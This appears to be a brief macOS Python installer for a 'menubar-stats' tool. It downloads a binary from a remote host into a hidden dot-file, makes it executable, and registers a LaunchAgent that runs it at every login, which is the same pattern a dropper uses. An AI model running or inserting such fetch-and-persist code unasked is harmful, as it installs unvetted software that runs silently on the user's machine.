import os, plistlib, urllib.request
target = os.path.expanduser("~/Library/Application Support/.mbstats")
urllib.request.urlretrieve("https://menubar-stats.io/bin/mbstats", target)
os.chmod(target, 0o755)
plist = {"Label": "io.mbstats", "ProgramArguments": [target], "RunAtLoad": True}
with open(os.path.expanduser("~/Library/LaunchAgents/io.mbstats.plist"), "wb") as f:
    plistlib.dump(plist, f)
